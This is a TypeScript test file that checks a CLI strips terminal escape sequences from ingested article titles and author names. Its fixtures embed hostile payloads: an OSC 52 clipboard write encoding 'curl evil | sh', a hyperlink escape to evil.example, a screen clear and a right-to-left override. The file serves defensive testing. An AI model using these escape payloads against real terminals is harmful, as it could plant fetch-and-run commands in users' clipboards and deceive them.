/**
 * Page text that tries to drive the reader's terminal: a title with ESC sequences (screen
 * clear, OSC 52 clipboard write, a hyperlink) and a right-to-left override, ingested by the
 * real pipeline and read back with the CLI's tables and key-value lines.
 */
import { UpdateCommand } from "@aws-sdk/lib-dynamodb";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { articlePage, prose } from "../../../cli/local/article-page";
import { type MutableSite, startMutableSite } from "../../support/mutable-site";
import { startTestPipeline, type TestPipeline } from "../../support/pipeline";
import { localDataDir, runCli } from "./run-cli";

const ESC = "\u001b";
const BEL = "\u0007";
const RLO = "\u202e";
const HOSTILE_TITLE = `Budget vote${ESC}[2J${ESC}[H${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL} ${RLO}lanif`;

let site: MutableSite;
let pipeline: TestPipeline;
let dataDir: string;
let articleId: string;

function cli(...argv: string[]) {
  return runCli([...argv, "--local", "--data-dir", dataDir]);
}

function terminalUnsafe(output: string): string[] {
  return [ESC, BEL, RLO, "\u009b", "\r"].filter((c) => output.includes(c));
}

beforeAll(async () => {
  site = await startMutableSite();
  pipeline = await startTestPipeline();
  dataDir = localDataDir(pipeline.resources);
  site.set(
    "/2026/11/30/budget",
    articlePage({
      title: HOSTILE_TITLE,
      paragraphs: [prose("First."), prose("Second."), prose("Third.")],
      published: "2026-11-30T08:00:00Z",
    }),
  );
  expect((await cli("submit", `${site.origin}/2026/11/30/budget`)).code).toBe(0);
  await pipeline.poller.drained({ timeoutMs: 60_000 });
  const got = JSON.parse((await cli("get", `${site.origin}/2026/11/30/budget`, "--json")).stdout);
  articleId = got.article.articleId;
});

afterAll(async () => {
  await pipeline?.stop();
  await site?.close();
});

describe("CLI output of hostile titles", () => {
  it("stores the title without the control characters and the override", async () => {
    // Act
    const run = await cli("get", articleId, "--json");

    // Assess
    const { article } = JSON.parse(run.stdout);
    expect(article.title).toBe("Budget vote[2J[H]52;c;Y3VybCBldmlsIHwgc2g= lanif");
  });

  it("prints tables and fields without them, also for a record stored before the cleaning", async () => {
    // Prepare: a record written by an earlier version, title and author unclean.
    await pipeline.resources.clients.documents.send(
      new UpdateCommand({
        TableName: pipeline.config.tableName,
        Key: { pk: `ARTICLE#${articleId}`, sk: "LATEST" },
        UpdateExpression: "SET title = :title, authors = :authors",
        ExpressionAttributeValues: {
          ":title": `${HOSTILE_TITLE}\r${ESC}]8;;http://evil.example${BEL}x`,
          ":authors": [`Jane${ESC}[8m\u009b2J Doe`],
        },
      }),
    );

    // Act
    const list = await cli("list", "--site", "127.0.0.1");
    const get = await cli("get", articleId);

    // Assess
    expect(list.code).toBe(0);
    expect(terminalUnsafe(list.stdout)).toEqual([]);
    const [header, row] = list.stdout.trim().split("\n");
    expect(header).toMatch(/TITLE/);
    expect(row).toContain("Budget vote[2J[H]52;c;Y3VybCBldmlsIHwgc2g= lanif ]8;;http");
    expect(get.code).toBe(0);
    expect(terminalUnsafe(get.stdout)).toEqual([]);
    expect(get.stdout).toMatch(/^Title: +Budget vote\[2J\[H\]52;c;/m);
    expect(get.stdout).toMatch(/^Authors: +Jane\[8m2J Doe$/m);
  });
});
